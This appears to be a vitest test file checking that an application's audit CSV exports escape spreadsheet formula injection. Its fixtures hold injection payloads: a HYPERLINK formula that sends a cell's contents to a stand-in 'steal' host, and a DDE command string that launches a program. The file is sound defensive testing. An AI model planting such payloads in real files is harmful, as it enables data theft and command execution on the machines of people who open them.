import { createHash } from "node:crypto";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import * as fileRoute from "@/app/api/audit/exports/[id]/file/route";
import * as exportRoute from "@/app/api/audit/exports/[id]/route";
import * as exportsRoute from "@/app/api/audit/exports/route";
import * as decisionRoute from "@/app/api/hitl/cases/[id]/decision/route";
import * as casesRoute from "@/app/api/hitl/cases/route";
import { settleExports } from "@/lib/audit";
import type { AuditExport, AuditExportKind } from "@/lib/audit/contract";
import { drainTrace, recordTrace } from "@/lib/trace";
import { ADMIN, caseBody, hitlClient, MEMBER, REVIEWER, rid } from "../api-hitl/support";
import { appTargets } from "../support/databases";
import { seededDatabase } from "../support/seeded";

// What a spreadsheet runs when it opens a CSV: a cell whose text starts with one of these.
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

// Text people and models type, each a formula if a spreadsheet opened it as is.
const TITLE = '=HYPERLINK("http://x.example/steal?d="&A1,"Open")';
const SUMMARY = "+1+1";
const NOTES = "-2+3";
const SUBMITTER_NAME = "@SUM(A1)";
const NODE = "=cmd|' /C calc'!A0";
const ERROR = "\t=1+1";
const REQUEST = "\r=2+2";

for (const target of appTargets()) {
  describe(`audit exports opened in a spreadsheet on ${target.name}`, () => {
    const suite = seededDatabase(target, { knowledge: false });
    const client = hitlClient();

    let made: Promise<string> | undefined;
    /** A case and a decision, and trace events, whose text would run as formulas; the case's id. */
    const fixture = () => {
      made ??= (async () => {
        const submitted = await client.post(
          MEMBER,
          casesRoute.POST,
          "/api/hitl/cases",
          caseBody({ title: TITLE, summary: SUMMARY, submitter: { name: SUBMITTER_NAME, role: "member" } }),
        );
        expect(submitted.status, JSON.stringify(submitted.body)).toBe(201);
        const caseId = submitted.body.caseId as string;
        const decided = await client.post(
          REVIEWER,
          decisionRoute.POST,
          `/api/hitl/cases/${caseId}/decision`,
          { request_id: rid(), decision: "approved", notes: NOTES },
          { id: caseId },
        );
        expect(decided.status, JSON.stringify(decided.body)).toBe(200);
        await recordTrace({ tenantId: suite.tenants.demo }, [
          { eventType: "node_error", nodeName: NODE, error: ERROR, requestId: REQUEST, success: false },
          { eventType: "node_start", nodeName: "-1", requestId: "+44 20 7946 0958", eventData: { note: "=1+1" } },
        ]);
        await drainTrace();
        return caseId;
      })();
      return made;
    };

    /** Writes an export as the admin and returns its manifest and the file's bytes. */
    async function exported(kind: AuditExportKind) {
      const res = await client.post(ADMIN, exportsRoute.POST, "/api/audit/exports", { kind, format: "csv" });
      expect(res.status, JSON.stringify(res.body)).toBe(202);
      const id = res.body.id as string;
      await settleExports();
      const got = await client.get(ADMIN, exportRoute.GET, `/api/audit/exports/${id}`, { id });
      const x = got.body as unknown as AuditExport;
      expect(x.status, x.error ?? "").toBe("ready");
      const req = new Request(`http://localhost/api/audit/exports/${id}/file`, {
        headers: { cookie: await client.cookieOf(ADMIN) },
      });
      const file = await fileRoute.GET(req, { params: Promise.resolve({ id }) });
      expect(file.status).toBe(200);
      const bytes = new Uint8Array(await file.arrayBuffer());
      // The manifest still names the file as written.
      expect(createHash("sha256").update(bytes).digest("hex")).toBe(x.manifest?.sha256);
      const text = new TextDecoder().decode(bytes);
      // Read as a spreadsheet reads it: RFC 4180 records, the header naming the columns.
      const records = parse(text, { columns: true, record_delimiter: "\r\n", relax_quotes: false }) as Record<
        string,
        string
      >[];
      expect(records.length).toBe(x.manifest?.rowCount);
      return { text, records };
    }

    /** Every cell that would start a formula, as `column: value`. */
    const formulas = (records: Record<string, string>[]) =>
      records
        .flatMap((r) => Object.entries(r).filter(([, v]) => FORMULA_TRIGGER.test(v)))
        .map(([k, v]) => `${k}: ${v}`);

    it("the cases export shows titles, summaries and names as text", async () => {
      const caseId = await fixture();
      const { text, records } = await exported("cases");
      expect(formulas(records)).toEqual([]);
      const row = records.find((r) => r.case_id === caseId);
      // The text is all there, behind the ' that makes it text; the cell is quoted in the file.
      expect(row?.title).toBe(`'${TITLE}`);
      expect(row?.summary).toBe(`'${SUMMARY}`);
      expect(text).toContain(`"'${TITLE.replaceAll('"', '""')}"`);
      expect(text).toContain(`"'${SUMMARY}"`);
    });

    it("the decisions export shows reviewers' notes and case titles as text", async () => {
      const caseId = await fixture();
      const { text, records } = await exported("decisions");
      expect(formulas(records)).toEqual([]);
      const row = records.find((r) => r.case_id === caseId && r.event_type === "decision_recorded");
      expect(row?.notes).toBe(`'${NOTES}`);
      expect(row?.case_title).toBe(`'${TITLE}`);
      expect(text).toContain(`"'${NOTES}"`);
    });

    it("the trace export, printed by the database, shows node names, errors and request ids as text", async () => {
      await fixture();
      const { text, records } = await exported("trace");
      expect(formulas(records)).toEqual([]);
      const failed = records.find((r) => r.node_name === `'${NODE}`);
      expect(failed).toMatchObject({ event_error: `'${ERROR}`, request_id: `'${REQUEST}` });
      const started = records.find((r) => r.node_name === "'-1");
      expect(started?.request_id).toBe("'+44 20 7946 0958");
      // JSON text is left as JSON: it starts with a brace.
      expect(JSON.parse(String(started?.event_data))).toEqual({ note: "=1+1" });
      expect(text).toContain(`"'${NODE.replaceAll('"', '""')}"`);
      expect(text).toContain(`"'${ERROR}"`);
    });
  });
}
